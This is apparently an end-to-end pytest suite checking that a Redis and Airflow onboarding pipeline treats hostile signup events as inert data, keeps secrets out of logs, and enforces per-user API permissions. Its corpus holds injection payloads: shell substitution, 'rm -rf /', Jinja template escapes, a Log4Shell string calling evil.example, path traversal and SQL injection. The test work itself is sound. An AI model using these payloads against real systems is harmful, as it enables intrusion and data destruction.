"""Security controls on the real path (docs/security.md): real Redis with ACL users, a real
realtime Airflow with the FAB auth manager, a real listener process.

One stack serves every test here: the listener and the DAG's tasks connect to Redis as
their own ACL users (known passwords), a hostile corpus of signups goes through, and then
- the listener's Airflow credential is refused (403) everywhere but its own job,
- every hostile event was decided (content kept verbatim, nothing rendered or run) or
  dead-lettered with its reason,
- no secret appears in any log, metrics page, decision, dead letter or command line.
"""

from __future__ import annotations

import json
import os
import secrets
import tempfile
import time
import uuid
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest
import redis

from onboarding.publisher import publish_raw
from onboarding.settings import StreamSettings
from onboarding.untrusted import field_of
from ops.redis_acl import apply
from risk.samples import new_signup
from testkit.realtime import E2E_REDIS_URL, RealtimeStack, running_realtime

pytestmark = pytest.mark.e2e

# A template that renders to a value nobody sends: if it appears anywhere, it was rendered.
RENDERED = "secrendered4242"
TEMPLATE = "{{ 'secrendered' ~ 4242 }}"
# A file a shell command in an event would create; it must never exist.
CANARY = Path(tempfile.gettempdir()) / f"sec-canary-{uuid.uuid4().hex[:10]}"

KNOWN_REASONS = {"invalid_value", "wrong_type", "invalid_timestamp", "out_of_range", "not_json", "unknown_field"}


def poison_payloads() -> list[tuple[str, str]]:
    """(expected reason, raw payload): entries that crashed the listener before they were
    bounded (issue 28). They are published before the corpus: the honest signups behind
    them must still be decided by the same listener process."""
    big_number = json.dumps(new_signup()).replace('"credit_amount": ', '"credit_amount": ' + "9" * 5_000 + ', "x": ', 1)
    return [
        ("too_deep", "[" * 5_000 + "]" * 5_000),
        ("too_deep", '{"a":' * 3_000 + "1" + "}" * 3_000),
        ("oversize", "[" * 200_000),
        ("oversize", "x" * (4 * 1024 * 1024)),
        ("invalid_value", big_number),
        ("invalid_value", json.dumps(new_signup(event_id=f"evt-nl-{uuid.uuid4().hex[:8]}\n"))),
        ("invalid_value", json.dumps(new_signup(user_id="user-nl\n"))),
    ]


def hostile_events() -> list[tuple[str, dict | str]]:
    """(expected outcome, event): "decided" keeps the text as data, "dead" is refused."""
    out: list[tuple[str, dict | str]] = []
    # user_id is free text (no control characters, 1..128 characters): decided, verbatim.
    for user_id in (
        f"$(touch {CANARY})",
        f"`touch {CANARY}`; touch {CANARY} && echo",
        TEMPLATE,
        "{% for i in range(3) %}{{ i }}{% endfor %}{{ params }}{{ conf }}{{ var.value.x }}",
        "{{ ''.__class__.__mro__[1].__subclasses__() }}",
        "${jndi:ldap://evil.example/a} %s%n %x",
        "../../../../../etc/passwd",
        "..\\..\\windows\\system32\\cmd.exe",
        "\u202eevil\u202c \u0644\u0627 \U0001f600 \ufeff Z\u0351\u0352\u0353",
        "\U0001f600" * 128,
        "x" * 128,
        "'; DROP TABLE dag_run; --",
    ):
        out.append(("decided", new_signup(user_id=user_id)))
    # event_id is restricted to [A-Za-z0-9._:~+-]: odd but allowed ids are decided ...
    out.append(("decided", new_signup(event_id="e" * 128)))
    out.append(("decided", new_signup(event_id=f"e.~+-:_{uuid.uuid4().hex[:8]}")))
    # ... hostile ones are refused before they become a run id.
    for event_id in (
        f"$(touch {CANARY})",
        "../../etc/passwd",
        TEMPLATE,
        "evt;rm -rf /",
        "évt-unicode",
        "e" * 129,
    ):
        out.append(("dead", new_signup(event_id=event_id)))
    # Application fields are enums, numbers and booleans: hostile text is refused.
    for field, value in (
        ("purpose", TEMPLATE),
        ("housing", f"$(touch {CANARY})"),
        ("job", "../../etc/passwd"),
        ("credit_amount", "1e9999"),
        ("has_telephone", "{{ True }}"),
    ):
        event = new_signup()
        event["application"][field] = value
        out.append(("dead", event))
    bad_time = new_signup()
    bad_time["occurred_at"] = TEMPLATE
    out.append(("dead", bad_time))
    control = new_signup()
    control["user_id"] = "bell\x07"
    out.append(("dead", control))
    extra = new_signup()
    extra["__import__"] = "os"
    out.append(("dead", extra))
    return out


@dataclass
class Secured:
    stack: RealtimeStack
    metrics_port: int
    secrets: dict[str, str]
    expected: dict[str, str]  # event_id -> "decided" | "dead"
    events: dict[str, dict]
    decisions: dict[str, dict]
    dead: list[dict[str, str]]
    listener_pid: int | None
    poison: list[tuple[str, str]]


def _redis_url(user: str, password: str) -> str:
    parsed = redis.connection.parse_url(E2E_REDIS_URL)
    host, port, db = parsed.get("host", "127.0.0.1"), parsed.get("port", 6379), parsed.get("db", 0)
    return f"redis://{user}:{password}@{host}:{port}/{db}"


@pytest.fixture(scope="module")
def secured(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory, trained_model_dir: Path
) -> Iterator[Secured]:
    prefix = f"sec-test-e2e-{os.getpid()}-"
    passwords = {role: f"redis-{role}-{secrets.token_hex(12)}" for role in ("listener", "publisher")}
    # PostgreSQL, as in production (the local SQLite default stalls intermittently under the
    # FAB auth manager, see docs/security.md).
    name, db = "sec", "postgres"
    streams = StreamSettings(
        redis_url=E2E_REDIS_URL,
        signups_stream=f"{name}-{db}:signups",
        decisions_stream=f"{name}-{db}:decisions",
        dead_letter_stream=f"{name}-{db}:signups:dead",
    )
    admin = redis.Redis.from_url(E2E_REDIS_URL)
    try:
        admin.ping()
    except redis.RedisError:
        from testkit.services import require

        require(False, f"Redis at {E2E_REDIS_URL}")
    environ = {f"REDIS_ACL_PASSWORD_{role.upper()}": pw for role, pw in passwords.items()}
    users = apply(admin, streams, environ, user_prefix=prefix)
    home = tmp_path_factory.mktemp("realtime-sec")
    try:
        task_url = _redis_url(f"{prefix}publisher", passwords["publisher"])
        with running_realtime(db, home, trained_model_dir, request.session, name, task_redis_url=task_url) as stack:
            assert stack.streams == streams
            process, port = stack.start_listener(REDIS_URL=_redis_url(f"{prefix}listener", passwords["listener"]))
            poison = poison_payloads()
            for _reason, raw in poison:
                publish_raw(admin, streams.signups_stream, raw)
            values = json.loads((home / "secrets.json").read_text())
            known = {
                "redis listener password": passwords["listener"],
                "redis publisher password": passwords["publisher"],
                "airflow admin password": values["admin_password"],
                "airflow listener password": values["listener_password"],
                "airflow jwt secret": values["jwt_secret"],
                "airflow api secret key": values["api_secret_key"],
            }
            corpus = hostile_events()
            expected: dict[str, str] = {}
            events: dict[str, dict] = {}
            for outcome, event in corpus:
                assert isinstance(event, dict)
                expected[event["event_id"]] = outcome
                events[event["event_id"]] = event
                publish_raw(admin, streams.signups_stream, json.dumps(event, ensure_ascii=False))
            decisions, dead = _settle(stack, len(expected) + len(poison), timeout_s=420)
            yield Secured(stack, port, known, expected, events, decisions, dead, process.pid(), poison)
    finally:
        admin.execute_command("ACL", "DELUSER", *users)
        admin.close()


def _settle(stack: RealtimeStack, expected: int, timeout_s: float) -> tuple[dict, list]:
    """Wait until every event has a decision or a dead letter (or time out)."""
    deadline = time.monotonic() + timeout_s
    while True:
        decisions = {}
        for _id, fields in stack.redis.xrange(stack.streams.decisions_stream):
            payload = json.loads(fields[b"payload"])
            decisions[payload["event_id"]] = payload
        dead = [
            {k.decode(): v.decode("utf-8", errors="replace") for k, v in fields.items()}
            for _id, fields in stack.redis.xrange(stack.streams.dead_letter_stream)
        ]
        settled = len(decisions) + len(dead)
        if settled >= expected or time.monotonic() > deadline:
            return decisions, dead
        time.sleep(1)


def test_every_hostile_event_is_decided_verbatim_or_dead_lettered_with_its_reason(secured: Secured) -> None:
    dead_by_event: dict[str, dict[str, str]] = {}
    for letter in secured.dead:
        event_id = field_of(letter["original.payload"], "event_id")
        if isinstance(event_id, str):
            dead_by_event[event_id] = letter
    for event_id, outcome in secured.expected.items():
        if outcome == "decided":
            assert event_id in secured.decisions, f"no decision for {event_id[:40]!r}"
            decision = secured.decisions[event_id]
            # The hostile text travelled as data: byte for byte, not rendered, not interpreted.
            assert decision["user_id"] == secured.events[event_id]["user_id"]
            assert decision["decision"] in ("approve", "review", "decline")
            assert decision["error"] is None
        else:
            assert event_id not in secured.decisions
            assert event_id in dead_by_event, f"{event_id[:40]!r} was neither decided nor dead-lettered"
            assert dead_by_event[event_id]["reason"] in KNOWN_REASONS, dead_by_event[event_id]
            assert dead_by_event[event_id]["detail"]
    assert len(secured.dead) == sum(1 for o in secured.expected.values() if o == "dead") + len(secured.poison)


def test_poison_entries_never_stop_the_listener_and_are_dead_lettered_bounded(secured: Secured) -> None:
    """Deep nesting, oversize entries, a 5,000-digit number and ids ending in a newline,
    published ahead of the honest signups: the same listener process lives and decided
    those behind them (previous test), and each poison entry is a bounded dead letter."""
    (listener,) = secured.stack.listeners
    assert secured.listener_pid is not None
    assert listener.pid() == secured.listener_pid, "the listener process died (or was replaced)"
    reasons = sorted(letter["reason"] for letter in secured.dead if letter["reason"] in ("too_deep", "oversize"))
    assert reasons == sorted(r for r, _ in secured.poison if r in ("too_deep", "oversize"))
    honest = [e for e, o in secured.expected.items() if o == "decided"]
    assert honest and all(e in secured.decisions for e in honest)
    for letter in secured.dead:
        assert len(letter["original.payload"]) <= 64 * 1024
    cut = [letter for letter in secured.dead if "truncated.payload" in letter]
    assert len(cut) == 2 and all("sha256:" in letter["truncated.payload"] for letter in cut)
    health = httpx.get(f"http://127.0.0.1:{secured.metrics_port}/healthz", timeout=10)
    assert health.status_code == 200


def test_nothing_the_events_carried_was_executed_or_rendered(secured: Secured) -> None:
    assert not CANARY.exists(), "a shell ran a command from an event"
    stack = secured.stack
    headers = stack.admin_headers()
    api = stack.instance.spec.api_url
    template_runs = [
        f"signup__{event_id}"
        for event_id, event in secured.events.items()
        if secured.expected[event_id] == "decided" and "{{" in event["user_id"]
    ]
    assert template_runs
    for run_id in template_runs:
        run = httpx.get(f"{api}/api/v2/dags/onboarding/dagRuns/{run_id}", headers=headers, timeout=30)
        run.raise_for_status()
        assert "{{" in run.json()["conf"]["user_id"], "the conf keeps the template as text"
        tis = httpx.get(f"{api}/api/v2/dags/onboarding/dagRuns/{run_id}/taskInstances", headers=headers, timeout=30)
        tis.raise_for_status()
        for ti in tis.json()["task_instances"]:
            assert RENDERED not in json.dumps(ti.get("rendered_fields")), ti["task_id"]
    everything = _all_output(secured)
    assert RENDERED not in everything, "a template from an event was rendered somewhere"
    assert "0 1 2" not in json.dumps(secured.decisions)


def _all_output(secured: Secured) -> str:
    """Every output the stack produced: logs of all processes (task logs included), the
    listener's metrics and health pages, decisions and dead letters."""
    parts = []
    for path in secured.stack.home.rglob("*"):
        if path.is_file() and path.suffix in (".log", ".json", ".txt", "") and path.name != "secrets.json":
            if path.name in ("passwords.json", "listener.password", "airflow.cfg", "webserver_config.py"):
                continue  # the secrets' own 0600 files
            parts.append(path.read_text(errors="replace"))
    for page in ("metrics", "healthz"):
        parts.append(httpx.get(f"http://127.0.0.1:{secured.metrics_port}/{page}", timeout=10).text)
    scheduler = secured.stack.instance.spec.scheduler_health_port
    parts.append(httpx.get(f"http://127.0.0.1:{scheduler}/health", timeout=10).text)
    parts.append(json.dumps(secured.decisions))
    parts.append(json.dumps(secured.dead))
    return "\n".join(parts)


def test_no_secret_appears_in_any_output_or_command_line(secured: Secured) -> None:
    everything = _all_output(secured)
    assert len(everything) > 10_000, "the outputs were actually collected"
    for what, value in secured.secrets.items():
        assert value not in everything, f"the {what} appears in an output"
    for process in [*secured.stack.listeners, *secured.stack.instance.processes()]:
        pid = process.pid()
        if pid is None:
            continue
        cmdline = Path(f"/proc/{pid}/cmdline").read_bytes().decode(errors="replace")
        for what, value in secured.secrets.items():
            assert value not in cmdline, f"the {what} is on the command line of {process.name}"


def test_secret_files_are_private_and_no_default_password_works(secured: Secured) -> None:
    home = secured.stack.home
    for name in ("secrets.json", "passwords.json", "listener.password"):
        assert (home / name).stat().st_mode & 0o077 == 0, f"{name} is readable by others"
    api = secured.stack.instance.spec.api_url
    for username, password in (("admin", "admin"), ("listener", "user"), ("admin", ""), ("listener", "listener")):
        response = httpx.post(f"{api}/auth/token", json={"username": username, "password": password}, timeout=30)
        assert response.status_code in (400, 401, 403, 422), (username, response.status_code)
    assert secured.secrets["airflow admin password"] not in ("admin", "airflow")


def test_components_share_one_jwt_secret_and_the_api_listens_on_loopback(secured: Secured) -> None:
    import jwt

    secret = secured.secrets["airflow jwt secret"]
    api = secured.stack.instance.spec.api_url
    password = secured.stack.instance.listener_password_file.read_text().strip()
    token = httpx.post(f"{api}/auth/token", json={"username": "listener", "password": password}, timeout=30)
    token.raise_for_status()
    # The api-server signs with the configured secret (a random per-process key would fail here)...
    claims = jwt.decode(
        token.json()["access_token"], secret, algorithms=["HS512", "HS256"], options={"verify_aud": False}
    )
    assert claims["exp"] - claims["iat"] <= 3600, "API tokens live an hour at most"
    # ... and tasks, which authenticate to the api-server's execution API with tokens the
    # scheduler signs, ran to their decisions: the scheduler holds the same secret.
    assert secured.decisions
    port = secured.stack.instance.spec.api_port
    listening = set()
    for line in Path("/proc/net/tcp").read_text().splitlines()[1:]:
        local, state = line.split()[1], line.split()[3]
        address, hex_port = local.split(":")
        if int(hex_port, 16) == port and state == "0A":  # LISTEN
            listening.add(address)
    assert listening == {"0100007F"}, f"the API listens on {listening}, not only 127.0.0.1"


PROBES: list[tuple[str, str, dict | None]] = [
    ("POST", "/api/v2/dags/other/dagRuns", {"logical_date": None}),
    ("GET", "/api/v2/dags/other/dagRuns", None),
    ("GET", "/api/v2/dags/other", None),
    ("GET", "/api/v2/dags/~/dagRuns", None),
    ("PATCH", "/api/v2/dags/onboarding", {"is_paused": True}),
    ("DELETE", "/api/v2/dags/onboarding", None),
    ("DELETE", "/api/v2/dags/onboarding/dagRuns/{run_id}", None),
    ("PATCH", "/api/v2/dags/onboarding/dagRuns/{run_id}", {"state": "failed"}),
    ("POST", "/api/v2/dags/onboarding/dagRuns/{run_id}/clear", {"dry_run": True}),
    ("GET", "/api/v2/dags/onboarding/dagRuns/{run_id}/taskInstances", None),
    ("GET", "/api/v2/dags/onboarding/dagRuns/{run_id}/taskInstances/decide/logs/1", None),
    ("GET", "/api/v2/dags/onboarding/dagRuns/{run_id}/taskInstances/decide/xcomEntries", None),
    ("GET", "/api/v2/dagSources/onboarding", None),
    ("GET", "/api/v2/variables", None),
    ("POST", "/api/v2/variables", {"key": "x", "value": "y"}),
    ("GET", "/api/v2/connections", None),
    ("POST", "/api/v2/connections", {"connection_id": "x", "conn_type": "http"}),
    ("GET", "/api/v2/config", None),
    ("GET", "/api/v2/pools", None),
    ("POST", "/api/v2/pools", {"name": "x", "slots": 1}),
    ("GET", "/api/v2/importErrors", None),
    ("GET", "/api/v2/eventLogs", None),
    ("GET", "/api/v2/assets", None),
    ("GET", "/api/v2/jobs", None),
    ("GET", "/api/v2/providers", None),
    ("GET", "/api/v2/plugins", None),
    ("GET", "/api/v2/dagWarnings", None),
    ("GET", "/auth/fab/v1/users", None),
    ("POST", "/auth/fab/v1/users", {"username": "x", "password": "x", "email": "x@x", "roles": []}),
    ("GET", "/auth/fab/v1/roles", None),
]


def test_listener_credential_is_refused_everywhere_else(secured: Secured) -> None:
    """The done-criterion of issue 9: the listener's credential triggers and reads runs of
    `onboarding`, and gets 403 on every other DAG and endpoint it tries."""
    api = secured.stack.instance.spec.api_url
    password = secured.stack.instance.listener_password_file.read_text().strip()
    token = httpx.post(f"{api}/auth/token", json={"username": "listener", "password": password}, timeout=30)
    token.raise_for_status()
    headers = {"Authorization": f"Bearer {token.json()['access_token']}"}
    run_id = next(d["run_id"] for d in secured.decisions.values())
    # Its job: read the DAG and its runs.
    for path in ("/api/v2/dags/onboarding", f"/api/v2/dags/onboarding/dagRuns/{run_id}"):
        assert httpx.get(f"{api}{path}", headers=headers, timeout=30).status_code == 200, path
    # (Triggering is proven by every decision above: the listener created those runs.)
    refused = {}
    for method, path, body in PROBES:
        url = f"{api}{path.format(run_id=run_id)}"
        refused[f"{method} {path}"] = httpx.request(method, url, headers=headers, json=body, timeout=30).status_code
    assert refused == {probe: 403 for probe in refused}
    dag = httpx.get(f"{api}/api/v2/dags/onboarding", headers=headers, timeout=30).json()
    assert dag["is_paused"] is False
    # The admin can do what the listener cannot (the probes are real endpoints).
    admin = secured.stack.admin_headers()
    assert httpx.get(f"{api}/api/v2/pools", headers=admin, timeout=30).status_code == 200
    assert httpx.get(f"{api}/api/v2/dags/onboarding/dagRuns/{run_id}/taskInstances", headers=admin).status_code == 200


def test_sla_credential_reads_onboarding_runs_and_nothing_else(secured: Secured) -> None:
    """Issue 28, item 6: the SLA service's own user (role OnboardingSla, ops/access.py) reads
    the onboarding DAG and its runs, what its overdue look-ups need, and gets 403 on
    everything else, triggering and clearing runs included (re-driving is the admin's)."""
    api = secured.stack.instance.spec.api_url
    password = secured.stack.instance.sla_password_file.read_text().strip()
    assert password != secured.stack.instance.listener_password_file.read_text().strip()
    token = httpx.post(f"{api}/auth/token", json={"username": "sla", "password": password}, timeout=30)
    token.raise_for_status()
    headers = {"Authorization": f"Bearer {token.json()['access_token']}"}
    run_id = next(d["run_id"] for d in secured.decisions.values())
    for path in ("/api/v2/dags/onboarding", f"/api/v2/dags/onboarding/dagRuns/{run_id}"):
        assert httpx.get(f"{api}{path}", headers=headers, timeout=30).status_code == 200, path
    writes = [
        ("POST", "/api/v2/dags/onboarding/dagRuns", {"dag_run_id": "signup__sla-probe", "logical_date": None}),
        ("POST", "/api/v2/dags/onboarding/dagRuns/{run_id}/clear", {"dry_run": False}),
    ]
    refused = {}
    for method, path, body in PROBES + writes:
        url = f"{api}{path.format(run_id=run_id)}"
        refused[f"{method} {path}"] = httpx.request(method, url, headers=headers, json=body, timeout=30).status_code
    assert refused == {probe: 403 for probe in refused}
    admin = secured.stack.admin_headers()
    assert httpx.get(f"{api}/api/v2/dags/onboarding/dagRuns/signup__sla-probe", headers=admin).status_code == 404


def test_the_kubernetes_access_job_writes_a_listener_credential_that_works_and_only_for_its_job(
    secured: Secured, tmp_path: Path
) -> None:
    """The Helm user Job's command (`onboarding-access --listener-secret`, deploy/helm/
    realtime-values.yaml) against the real Airflow, the Kubernetes API played by a fake that
    enforces the Job's RBAC: the password it writes into the Secret is the one Airflow takes,
    a second run (a `helm upgrade`) keeps it, and the listener client reading the mounted
    file gets its job done and 403 beyond it. A separate user, so the running listener keeps
    its own credential."""
    import subprocess
    import sys

    from onboarding.airflow import AirflowClient, AirflowSettings
    from testkit.fake_kube import fake_kube

    instance = secured.stack.instance
    name = "onboarding-airflow-listener"
    outputs = []
    with fake_kube("onboarding", "job-token", {name}, {name: {}}) as kube:
        env = {
            **instance.env(),
            **kube.env(tmp_path / "token"),
            "ACCESS_ADMIN_PASSWORD": instance.admin_password(),
            "ACCESS_LISTENER_USER": "listener-k8s",
            "AIRFLOW__FAB__UPDATE_FAB_PERMS": "True",
        }
        for _ in range(2):
            run = subprocess.run(
                [sys.executable, "-m", "ops.access", "--listener-secret", name],
                env=env,
                capture_output=True,
                text=True,
                timeout=300,
            )
            assert run.returncode == 0, run.stdout + run.stderr
            outputs.append(run.stdout)
        stored = kube.decoded(name)
    assert "generated, written to Secret" in outputs[0] and "kept from Secret" in outputs[1]
    assert stored["username"] == "listener-k8s"
    mounted = tmp_path / "password"
    mounted.write_text(stored["password"])
    api = instance.spec.api_url
    client = AirflowClient(
        AirflowSettings.from_env(
            {"AIRFLOW_API_URL": api, "AIRFLOW_USERNAME": "listener-k8s", "AIRFLOW_PASSWORD_FILE": str(mounted)}
        )
    )
    run_id = next(d["run_id"] for d in secured.decisions.values())
    try:
        run = client.get_run(run_id)
        assert run is not None and run.state == "success"
    finally:
        client.close()
    token = httpx.post(f"{api}/auth/token", json={"username": "listener-k8s", "password": stored["password"]}).json()
    headers = {"Authorization": f"Bearer {token['access_token']}"}
    assert httpx.get(f"{api}/api/v2/pools", headers=headers, timeout=30).status_code == 403
    assert httpx.get(f"{api}/api/v2/dags/risk_retrain", headers=headers, timeout=30).status_code == 403


def test_every_decision_keeps_the_contract_and_task_logs_name_events_by_key(secured: Secured) -> None:
    """decision.v1.json holds for every decision of the hostile corpus, and the real task
    logs (Airflow's JSON lines) carry the event id and run id as keys (issue 17)."""
    from onboarding.decision import decision_errors

    assert secured.decisions
    broken = {event_id: decision_errors(d) for event_id, d in secured.decisions.items() if decision_errors(d)}
    assert broken == {}
    published = []
    for path in (secured.stack.home / "logs").rglob("*.log"):
        for line in path.read_text(errors="replace").splitlines():
            try:
                record = json.loads(line)
            except ValueError:
                continue
            if isinstance(record, dict) and record.get("event") == "onboarding: published the decision":
                published.append(record)
    by_event = {record["event_id"]: record for record in published}
    assert set(by_event) == set(secured.decisions), "one keyed publish line per decision"
    for event_id, record in by_event.items():
        assert record["run_id"] == secured.decisions[event_id]["run_id"] and record["entry_id"]


def test_every_refused_signup_with_an_addressable_event_id_is_answered(secured: Secured) -> None:
    """No signup without an answer: each dead letter whose entry carries a well-formed event id
    (one an app can wait on) has its refusal on that id's decision key, with the dead letter's
    reason, written in the same transaction (refused_at is the dead letter's dead_at)."""
    import re

    well_formed = re.compile(r"[A-Za-z0-9][A-Za-z0-9._:~+-]{0,127}")
    stack = secured.stack
    answered = 0
    for letter in secured.dead:
        event_id = field_of(letter["original.payload"], "event_id")
        if not isinstance(event_id, str) or not well_formed.fullmatch(event_id):
            continue
        raw = stack.redis.get(f"{stack.streams.decisions_stream}:event:{event_id}")
        assert raw is not None, f"{event_id[:40]!r} was refused ({letter['reason']}) but not answered"
        refusal = json.loads(raw)
        assert refusal["kind"] == "refusal" and refusal["reason"] == letter["reason"]
        assert refusal["refused_at"] == letter["dead_at"]
        answered += 1
    assert answered >= 8, "the corpus refuses at least eight signups with well-formed ids"
